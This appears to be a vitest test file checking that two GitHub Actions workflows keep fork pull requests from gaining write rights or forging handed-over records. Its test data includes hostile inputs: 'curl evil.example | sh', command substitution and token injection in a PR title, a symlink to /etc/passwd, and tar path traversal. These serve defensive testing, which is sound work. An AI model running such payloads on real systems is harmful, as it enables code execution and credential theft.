// workflows-examples/fork-safe-1.yml and fork-safe-2.yml: what a fork's run hands over, and what becomes of a hostile one.
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir, tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";

import { parseRecord, type ReleaseRecord } from "../../src/domain/record/record.ts";
import { HOSTILE } from "../domain/report/hostile.ts";
import { FILTERED, prose, render, tags } from "../domain/report/render.ts";
import { pullRequestTarget, workflowRun } from "../runner/chained-events.ts";
import { pullRequest } from "../runner/events.ts";
import { startMachine, type Machine } from "../runner/machine.ts";
import { runWorkflow, type RunResult } from "../runner/run-workflow.ts";
import { startGitHub, type GitHub } from "../world/github-rest/github.ts";
import { startApiServer, type ApiServer } from "../world/kubernetes/api-server.ts";
import { operate } from "../world/kubernetes/small-operator.ts";
import { startRegistry, type TestRegistry } from "../world/registry/registry.ts";

const root = resolve(import.meta.dirname, "../..");
const examples = join(root, "workflows-examples");
const cache = join(process.env["XDG_CACHE_HOME"] ?? join(homedir(), ".cache"), "model-road");
const FIRST = ".github/workflows/fork-safe-1.yml";
const SECOND = ".github/workflows/fork-safe-2.yml";
const FORK = { number: 7, head: "stronger", fork: "eve/digits", title: "$(id) `id` ${{ github.token }} <img src=x>" };
const MOST_CALLS = 15;

let folder: string;
let github: GitHub;
let machine: Machine;
let registry: TestRegistry;
let cluster: ApiServer;
let head: string;
let tried: RunResult;
let record: ReleaseRecord;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "fork-safe-"));
  const project = join(folder, "project");
  cpSync(join(examples, "digits"), project, { recursive: true });
  mkdirSync(join(project, ".github/workflows"), { recursive: true });
  for (const name of ["fork-safe-1.yml", "fork-safe-2.yml"]) {
    cpSync(join(examples, name), join(project, ".github/workflows", name));
  }
  github = await startGitHub({ owner: "acme", name: "digits" });
  registry = await startRegistry();
  cluster = await startApiServer();
  operate(cluster);
  cluster.onProxy = () => ({ status: 200, body: JSON.stringify({ data: { ndarray: [Array(10).fill(0.1)] } }) });
  machine = await startMachine({ root: join(folder, "machine"), toolCache: join(cache, "tools") });
  Object.assign(machine.environment, { OMP_NUM_THREADS: "1", OPENBLAS_NUM_THREADS: "1" });
  await github.commitFolder({ branch: "main", folder: project, message: "A model" });
  head = await github.commit({
    branch: "stronger",
    from: "main",
    files: { "params.yaml": "C: 0.1\nmax_iter: 500\nshuffle_labels: false\n" },
    message: "Regularise more",
  });
  tried = await first(pullRequest(FORK));
  record = parseRecord(outputsOf(tried, "image").record!);
}, 600_000);
afterAll(async () => {
  await Promise.all([github.close(), registry.close(), cluster.close()]);
  rmSync(folder, { recursive: true, force: true });
});

const given = () => ({
  github,
  machine,
  vars: { PREVIEW_IMAGE: `${registry.host}/digits-previews` },
  secrets: { DEPLOY_KEY: "hunter2-hunter2" },
  environments: { preview: { vars: { NAMESPACE: "previews" }, secrets: { KUBECONFIG: cluster.kubeconfig } } },
  repositories: { "model-road/model-road": root },
});

const first = (event: ReturnType<typeof pullRequest>) => runWorkflow({ ...given(), workflow: FIRST, event });
const second = (event: ReturnType<typeof workflowRun>) => runWorkflow({ ...given(), workflow: SECOND, event });
const told = () => second(workflowRun({ runId: tried.runId }));
const labelled = (more: object = {}) =>
  second(pullRequestTarget({ ...FORK, action: "labeled", label: "preview", ...more }));

const outputsOf = (result: RunResult, id: string): Record<string, string> =>
  Object.values(result.jobs)
    .flatMap((job) => job.steps)
    .find((step) => step.id === id)?.outputs ?? {};
const bodies = () => github.world.comments.map(({ body }) => body);
const copied = () => registry.manifests.get("digits-previews") ?? new Map<string, { bytes: Buffer }>();
const previews = () => cluster.paths().filter((path) => path.includes("seldondeployments"));

test("the fork's half trains, gates, builds and hands over, with no right to write", () => {
  expect(tried.conclusion, tried.log).toBe("success");
  expect(record.gate?.decision).toBe("passed");
  expect(record.image?.tried?.requests).toBeGreaterThan(0);
  expect(tried.requests.filter(({ method }) => method !== "GET")).toEqual([]);
  expect(tried.requests.length).toBeLessThanOrEqual(MOST_CALLS);
  expect(tried.log).not.toContain("hunter2");
  expect(outputsOf(tried, "__model-road_model-road")["artifact"]).toMatch(/^\d+$/);
});

test("the trusted half comments once, says whose word it is, and copies nothing that nobody has approved", async () => {
  const result = await told();
  expect(result.conclusion, result.log).toBe("success");
  expect(bodies()).toHaveLength(1);
  expect(bodies()[0]).toContain("A stranger's word");
  expect(bodies()[0]).toContain("accuracy");
  expect(bodies()[0]).toContain(head.slice(0, 7));
  expect(copied().size).toBe(0);
  expect(result.requests.length).toBeLessThanOrEqual(MOST_CALLS);
  const again = await told();
  expect(again.conclusion).toBe("success");
  expect(bodies()).toHaveLength(1);
});

test("a label of someone who may not write approves nothing", async () => {
  const eve = { login: "eve", id: 77, type: "User" as const };
  const result = await labelled({ author: eve });
  expect(result.annotations.map(({ message }) => message).join("\n")).toMatch(/may not write to acme\/digits/);
  expect(copied().size).toBe(0);
  await expect(labelled({ label: "documentation" }).then(({ jobs }) => jobs["publish"]?.conclusion)).resolves.toBe(
    "skipped",
  );
});

test("a maintainer's label copies the very image, under a tag of its number and head", async () => {
  const result = await labelled();
  expect(result.conclusion, result.log).toBe("success");
  const tagged = copied().get(`pr-7-${head.slice(0, 12)}`)!;
  expect(`sha256:${createHash("sha256").update(tagged.bytes).digest("hex")}`).toBe(record.image!.digest);
  for (const { digest } of record.image!.layers) expect(registry.blobs.get("digits-previews")!.has(digest)).toBe(true);
  const { image, source, deployment } = parseRecord(result.jobs["publish"]!.outputs["record"]!);
  expect(image?.repository).toBe(`${registry.host}/digits-previews`);
  expect(source).toMatchObject({ sha: head, pullRequest: 7, event: "pull_request", runId: String(tried.runId) });
  expect(deployment).toBeUndefined();
  // And that image is what the preview serves, in the stage's namespace, told to GitHub as a preview.
  expect(previews()).toHaveLength(1);
  expect(previews()[0]).toContain("/namespaces/previews/");
  expect(JSON.stringify(cluster.get(previews()[0]!))).toContain(record.image!.digest);
  expect(github.world.deployments).toMatchObject([{ environment: "preview", transient: true }]);
  expect(result.requests.length).toBeLessThanOrEqual(MOST_CALLS);
});

test("a label on one pull request approves no other one of the same head", async () => {
  copied().clear();
  await pullRequest({ ...FORK, number: 9 })(github);
  const undo = await only((r) => ({ ...r, source: { ...r.source, pullRequest: 9 } }))();
  try {
    const result = await labelled();
    expect(result.conclusion).toBe("failure");
    expect(result.log).toMatch(/pull request #7, which was labelled, saw #9/);
    expect(copied().size).toBe(0);
  } finally {
    undo();
    Object.assign(github.world.pulls.get(9)!, { state: "closed" });
  }
});

test("a reviewer of an environment approves as the label does", async () => {
  copied().clear();
  const text = readFileSync(join(examples, "fork-safe-2.yml"), "utf8")
    .replace("    name: Comment\n", "    name: Comment\n    environment: { name: previews, deployment: false }\n")
    .replace("take-over: digits\n", "take-over: digits\n          image: ${{ vars.PREVIEW_IMAGE }}\n");
  writeFileSync(join(folder, "reviewed.yml"), text);
  const run = (environments: object) =>
    runWorkflow({
      ...given(),
      environments: { previews: environments },
      workflow: { file: join(folder, "reviewed.yml"), as: SECOND },
      event: workflowRun({ runId: tried.runId }),
    });
  expect((await run({})).jobs["comment"]?.conclusion).toBe("success");
  expect(copied().size).toBe(0);
  expect((await run({ review: "rejected" })).conclusion).toBe("failure");
  expect(copied().size).toBe(0);
  const approved = await run({ review: "approved" });
  expect(approved.conclusion, approved.log).toBe("success");
  expect(copied().has(record.image!.digest)).toBe(true);
});

/** Puts another archive in place of what the run handed over, as code with the run's own token can. */
async function handOver(fill: (at: string) => void, pack = ["."]): Promise<() => void> {
  const at = mkdtempSync(join(folder, "hostile-"));
  fill(at);
  const data = execFileSync("tar", ["--format=ustar", "--no-recursion", "-P", "-C", at, "-cf", "-", ...pack], {
    maxBuffer: 64 * 1024 * 1024,
  });
  const { artifacts } = github.results;
  const before = artifacts.artifacts.find(({ name }) => name === "handover1-digits-1")!;
  artifacts.remove(before);
  const planted = artifacts.plant({ run: before.run, name: before.name, data });
  return () => {
    artifacts.remove(planted);
    artifacts.artifacts.push(before);
  };
}

const only = (change: (record: ReleaseRecord) => object) => async () =>
  handOver((at) => writeFileSync(join(at, "record.json"), JSON.stringify(change(record))), ["record.json"]);
const text = (content: string) => async () =>
  handOver((at) => writeFileSync(join(at, "record.json"), content), ["record.json"]);

const LIES: Readonly<Record<string, readonly [() => Promise<() => void>, RegExp]>> = {
  "another repository": [
    only((r) => ({ ...r, source: { ...r.source, repository: "acme/bank" } })),
    /repository acme\/digits/,
  ],
  "another run": [only((r) => ({ ...r, source: { ...r.source, runId: "17" } })), /expected run \d+, saw "17"/],
  "a push": [only((r) => ({ ...r, source: { ...r.source, event: "push" } })), /expected event pull_request/],
  "a pull request of someone else": [
    only((r) => ({ ...r, source: { ...r.source, pullRequest: 8 } })),
    /#8, of another/,
  ],
  "a pull request that is not there": [
    only((r) => ({ ...r, source: { ...r.source, pullRequest: 4711 } })),
    /saw #4711/,
  ],
  "no pull request": [only((r) => ({ ...r, source: { ...r.source, pullRequest: undefined } })), /saw #0/],
  "a field that is not known": [only((r) => ({ ...r, command: "curl evil.example | sh" })), /command/],
  "a newer schema": [only((r) => ({ ...r, schema: 99 })), /schema 99/],
  "a text that is no record": [text("$(id)"), /JSON|record/],
  "nothing at all": [text(""), /an empty text/],
  "a record that is too large": [text(`{"a":"${"a".repeat(70_000)}"}`), /65536|at most/],
  "a name that is a path": [only((r) => ({ ...r, model: { ...r.model, name: "../../../etc" } })), /model\.name/],
  "a file beside": [
    async () =>
      handOver(
        (at) => {
          writeFileSync(join(at, "record.json"), JSON.stringify(record));
          writeFileSync(join(at, "action.yml"), "x");
        },
        ["record.json", "action.yml"],
      ),
    /a record and the blobs of an image, saw "action.yml"/,
  ],
  "a link": [
    async () => handOver((at) => symlinkSync("/etc/passwd", join(at, "record.json")), ["record.json"]),
    /link/,
  ],
  "a way out": [
    async () => handOver((at) => writeFileSync(join(at, "x"), "x"), ["--transform=s,^x,../../../../tmp/evil,", "x"]),
    /\.\./,
  ],
};

test.each(Object.keys(LIES))("a record that tells of %s is refused, and nothing is written", async (name) => {
  github.world.pulls.set(8, {
    ...github.world.pulls.get(7)!,
    number: 8,
    headRepository: { id: 5, fullName: "x/y", owner: "x" },
  });
  const [lie, reason] = LIES[name]!;
  const before = bodies();
  const restore = await lie();
  try {
    const result = await told();
    expect(result.conclusion, result.log).toBe("failure");
    expect(result.annotations.map(({ message }) => message).join("\n")).toMatch(reason);
    expect(result.requests.filter(({ method }) => method !== "GET")).toEqual([]);
    expect(bodies()).toEqual(before);
  } finally {
    restore();
  }
});

test("no hostile text of a record becomes an element, a mention or a link of the comment", async () => {
  // The run that tells is named in a link and in the comment's own marker.
  const shown = (body: string) =>
    tags(render(body.replaceAll(/(?<=\/actions\/runs\/|<!-- model-road:run )[\d.]+/g, "1")));
  const honest = shown(bodies()[0]!);
  let checked = 0;
  for (let at = 0; at < HOSTILE.length; at += 12) {
    const some = HOSTILE.slice(at, at + 12).map((each) => each.slice(0, 150));
    const lie = only((r) => ({
      ...r,
      training: { ...r.training, reason: some.join(" "), command: some.join("\n"), changed: some.slice(0, 3) },
      gate: {
        ...r.gate!,
        rules: r.gate!.rules.map((rule, i) => ({ ...rule, rule: some[i] ?? "x", reason: some.at(-1)! })),
      },
      deployment: {
        target: "seldon",
        namespace: "n",
        name: "n",
        deployId: "d",
        url: "https://evil.example/login",
        operation: "created",
        recordBefore: record.model.digest,
      },
    }));
    const restore = await lie();
    const result = await told();
    restore();
    expect(result.conclusion, result.log).toBe("success");
    const html = render(bodies()[0]!);
    expect(html).not.toContain("evil.example/login");
    expect(prose(html).replaceAll(/accuracy|log_loss/g, "")).not.toMatch(FILTERED);
    const foreign = shown(bodies()[0]!).filter(
      (tag) => !honest.includes(tag) && !/^<\/?(?:ul|li|p|code|br ?\/)>$/.test(tag),
    );
    expect(foreign).toEqual([]);
    checked += some.length;
  }
  expect(checked).toBe(HOSTILE.length);
}, 300_000);

test("a head that has moved on is left to its newer run; a closed one is left alone", async () => {
  const newer = await github.commit({ branch: "stronger", files: { "README.md": "more\n" }, message: "More" });
  await pullRequest({ ...FORK, action: "synchronize" })(github);
  const before = github.world.comments[0]!.updatedAt;
  const old = await told();
  expect(old.conclusion, old.log).toBe("success");
  expect(old.annotations[0]?.message).toContain("has moved on");
  expect(github.world.comments[0]!.updatedAt).toBe(before);
  const label = await labelled();
  expect(label.annotations[0]?.message).toContain(`No run of ${newer.slice(0, 12)}`);
  Object.assign(github.world.pulls.get(7)!, { state: "closed", head: { ref: "stronger", sha: head } });
  expect((await told()).annotations[0]?.message).toBe("Pull request #7 is closed.");
});

test("an artifact under a name that nobody asked for, and an expired one, are nothing", async () => {
  const { artifacts } = github.results;
  const own = artifacts.artifacts.find(({ name }) => name === "handover1-digits-1")!;
  for (const change of [{ name: "handover1-other-1" }, { expiresAt: 0 }]) {
    const before = { ...own };
    Object.assign(own, change);
    const result = await told();
    Object.assign(own, before);
    expect(result.annotations[0]?.message).toMatch(/handed nothing over/);
  }
});
